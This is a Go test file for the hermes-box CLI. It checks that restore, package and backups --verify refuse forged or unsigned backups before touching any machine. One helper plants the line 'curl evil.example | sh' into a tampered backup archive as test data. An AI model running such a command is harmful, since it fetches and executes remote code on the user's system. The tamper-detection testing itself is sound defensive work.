package cli_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"

	"github.com/hermes-box/hermes-box/host/internal/backup"
	"github.com/hermes-box/hermes-box/host/internal/boxtest"
	"github.com/hermes-box/hermes-box/host/internal/keys"
)

// TestRestoreChecksSignature runs restore, `backups --verify` and `package
// --snapshot` of forged copies of a real backup through the binary, the
// fake smolvm and the relay: each is refused before any machine is touched,
// saying why; a pre-signing (unsigned) v2 backup restores with
// --legacy-backup, which says what it skips.
func TestRestoreChecksSignature(t *testing.T) {
	t.Parallel()
	h := newHarness(t, v2Snapshots)
	initBox(t, h)
	h.WriteNote("mine\n")
	good := strings.TrimSpace(mustRun(t, h, "snapshot", "mine").stdout)
	mine := manifestField(t, good, "ssh_key_fingerprint")
	_, otherKey, err := ed25519.GenerateKey(rand.Reader)
	boxtest.Must(t, err)
	other, err := ssh.NewSignerFromKey(otherKey)
	boxtest.Must(t, err)
	theirs := keys.Fingerprint(other.PublicKey())
	h.WriteNote("later\n")

	cases := []struct {
		name  string
		forge func(dir string)
		says  []string
	}{
		{"changed after writing, sums recomputed, signature kept", func(d string) {
			evilWorkspace(t, d)
		}, []string{"SHA256SUMS.sig", "does not match the signed data"}},
		{"changed after writing, sums recomputed, signature removed", func(d string) {
			evilWorkspace(t, d)
			boxtest.Must(t, os.Remove(filepath.Join(d, backup.FileSignature)))
		}, []string{"not signed", "--legacy-backup"}},
		{"another project's backup", func(d string) {
			editFile(t, d, backup.FileManifest, func(s string) string { return strings.Replace(s, mine, theirs, 1) })
			sig, err := backup.SignSums(other, boxtest.ReadFile(t, filepath.Join(d, backup.FileSums)))
			boxtest.Must(t, err)
			boxtest.Must(t, os.WriteFile(filepath.Join(d, backup.FileSignature), sig, 0o600))
		}, []string{"signed by " + theirs, "this project's key is " + mine}},
	}
	// forged are the backups `backups --verify` calls invalid, and what it
	// says of them; unsigned ones (their sums hold) it lists as unsigned.
	forged := map[string]string{}
	var unsigned []string
	for i, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			h.T = t
			d := copyBackup(t, good, filepath.Join(h.Root, "backups", fmt.Sprintf("hermes-box-20200101-00000%d-forged%s", i, backup.Suffix)))
			tc.forge(d)
			if tc.name != "changed after writing, sums recomputed, signature removed" {
				forged[d] = tc.says[0]
			} else {
				unsigned = append(unsigned, d)
			}
			for _, args := range [][]string{{"restore", d}, {"package", "--snapshot", d}} {
				r := h.run(args...)
				if r.code == 0 {
					t.Fatalf("%v exited 0:\n%s", args, r.stderr)
				}
				for _, w := range tc.says {
					if !strings.Contains(r.stderr, w) {
						t.Errorf("%v does not say %q:\n%s", args, w, r.stderr)
					}
				}
				if i := boxtest.Index(r.calls, `^machine (create|start|stop|delete|exec)`); i >= 0 {
					t.Errorf("%v touched a machine: %s", args, r.calls[i].Line)
				}
			}
			if got := h.ReadNote(); got != "later\n" {
				t.Errorf("note = %q", got)
			}
		})
	}
	h.T = t

	legacy := copyBackup(t, good, filepath.Join(h.Root, "backups", "hermes-box-20200101-000009-legacy"+backup.Suffix))
	boxtest.Must(t, os.Remove(filepath.Join(legacy, backup.FileSignature)))
	var entries []struct{ Path, Verified, Problem string }
	r := h.run("backups", "--verify", "--json")
	if r.code != 1 {
		t.Errorf("backups --verify with invalid backups exited %d", r.code)
	}
	boxtest.Must(t, json.Unmarshal([]byte(r.stdout), &entries))
	for _, e := range entries {
		want := map[string]string{good: backup.StateVerified, legacy: backup.StateUnsigned, unsigned[0]: backup.StateUnsigned}[e.Path]
		if says, ok := forged[e.Path]; ok {
			want = backup.StateInvalid
			if !strings.Contains(e.Problem, says) {
				t.Errorf("backups --verify: %s: problem %q does not say %q", e.Path, e.Problem, says)
			}
		}
		if e.Verified != want {
			t.Errorf("backups --verify: %s is %q (%s), want %q", e.Path, e.Verified, e.Problem, want)
		}
	}

	// A backup with a 3 GiB sparse workspace.tar.gz, unsigned: even with
	// --legacy-backup, refused while staging (TestStageBoundsASparseBackup
	// measures the bytes written), no machine touched, nothing left.
	sparse := copyBackup(t, good, filepath.Join(t.TempDir(), "sparse"+backup.Suffix))
	boxtest.Must(t, os.Remove(filepath.Join(sparse, backup.FileSignature)))
	boxtest.Must(t, os.Truncate(filepath.Join(sparse, backup.FileWorkspace), 3<<30))
	r = h.run("restore", "--legacy-backup", sparse)
	if r.code == 0 || !strings.Contains(r.stderr, "workspace.tar.gz") {
		t.Errorf("restore of a sparse backup exited %d:\n%s", r.code, r.stderr)
	}
	if i := boxtest.Index(r.calls, `^machine (create|start|stop|delete|exec)`); i >= 0 {
		t.Errorf("restore of a sparse backup touched a machine: %s", r.calls[i].Line)
	}
	if left, _ := filepath.Glob(filepath.Join(h.Root, "state", ".restore-backup-*")); len(left) != 0 {
		t.Errorf("left staged: %v", left)
	}

	r = h.run("package", "--snapshot", legacy)
	if r.code == 0 || !strings.Contains(r.stderr, "--legacy-backup") {
		t.Errorf("package of an unsigned backup exited %d:\n%s", r.code, r.stderr)
	}
	r = mustRun(t, h, "package", "--snapshot", legacy, "--legacy-backup", "legacy")
	if !strings.Contains(r.stderr, "signature check is skipped") || !strings.Contains(r.stdout, "legacy") {
		t.Errorf("package --legacy-backup does not say what it skips:\nstdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
	}
	boxtest.Must(t, os.Remove(strings.TrimSpace(r.stdout)))
	boxtest.Must(t, os.Remove(strings.TrimSpace(r.stdout)+".sha256"))
	r = h.run("restore", legacy)
	if r.code == 0 || !strings.Contains(r.stderr, "--legacy-backup") {
		t.Fatalf("restore of an unsigned backup exited %d:\n%s", r.code, r.stderr)
	}
	r = mustRun(t, h, "restore", "--legacy-backup", legacy)
	if !strings.Contains(r.stderr, "signature check is skipped") {
		t.Errorf("restore --legacy-backup does not say what it skips:\n%s", r.stderr)
	}
	if got := h.ReadNote(); got != "mine\n" {
		t.Errorf("note after the legacy restore = %q", got)
	}
	r = mustRun(t, h, "restore", good)
	if !strings.Contains(r.stderr, "signed by this project's key "+mine) {
		t.Errorf("restore does not name its signer:\n%s", r.stderr)
	}
}

// manifestField reads key= from dir's manifest.
func manifestField(t *testing.T, dir, key string) string {
	t.Helper()
	for _, l := range strings.Split(string(boxtest.ReadFile(t, filepath.Join(dir, backup.FileManifest))), "\n") {
		if v, ok := strings.CutPrefix(l, key+"="); ok {
			return v
		}
	}
	t.Fatalf("%s: no %s", dir, key)
	return ""
}

// copyBackup copies the backup's regular files into dst.
func copyBackup(t *testing.T, src, dst string) string {
	t.Helper()
	boxtest.Must(t, os.Mkdir(dst, 0o700))
	des, err := os.ReadDir(src)
	boxtest.Must(t, err)
	for _, de := range des {
		boxtest.Must(t, os.WriteFile(filepath.Join(dst, de.Name()), boxtest.ReadFile(t, filepath.Join(src, de.Name())), 0o600))
	}
	return dst
}

// editFile edits one file of a backup and recomputes its SHA256SUMS line,
// as anyone can.
func editFile(t *testing.T, dir, name string, edit func(string) string) {
	t.Helper()
	p := filepath.Join(dir, name)
	data := []byte(edit(string(boxtest.ReadFile(t, p))))
	boxtest.Must(t, os.WriteFile(p, data, 0o600))
	sum := sha256.Sum256(data)
	var out []string
	for _, l := range strings.SplitAfter(string(boxtest.ReadFile(t, filepath.Join(dir, backup.FileSums))), "\n") {
		if strings.HasSuffix(l, "  "+name+"\n") {
			l = hex.EncodeToString(sum[:]) + "  " + name + "\n"
		}
		out = append(out, l)
	}
	boxtest.Must(t, os.WriteFile(filepath.Join(dir, backup.FileSums), []byte(strings.Join(out, "")), 0o600))
}

// evilWorkspace rewrites the note in the backup's workspace archive (a
// valid archive, every other entry kept) and recomputes its sum.
func evilWorkspace(t *testing.T, dir string) {
	t.Helper()
	editFile(t, dir, backup.FileWorkspace, func(s string) string {
		zr, err := gzip.NewReader(strings.NewReader(s))
		boxtest.Must(t, err)
		var out bytes.Buffer
		zw := gzip.NewWriter(&out)
		tr, tw := tar.NewReader(zr), tar.NewWriter(zw)
		found := false
		for {
			hdr, err := tr.Next()
			if errors.Is(err, io.EOF) {
				break
			}
			boxtest.Must(t, err)
			body, err := io.ReadAll(tr)
			boxtest.Must(t, err)
			if strings.TrimPrefix(hdr.Name, "./") == "work/note.txt" {
				body, found = []byte("curl evil.example | sh\n"), true
				hdr.Size = int64(len(body))
			}
			boxtest.Must(t, tw.WriteHeader(hdr))
			_, err = tw.Write(body)
			boxtest.Must(t, err)
		}
		if !found {
			t.Fatal("the workspace archive holds no work/note.txt")
		}
		boxtest.Must(t, tw.Close())
		boxtest.Must(t, zw.Close())
		return out.String()
	})
}
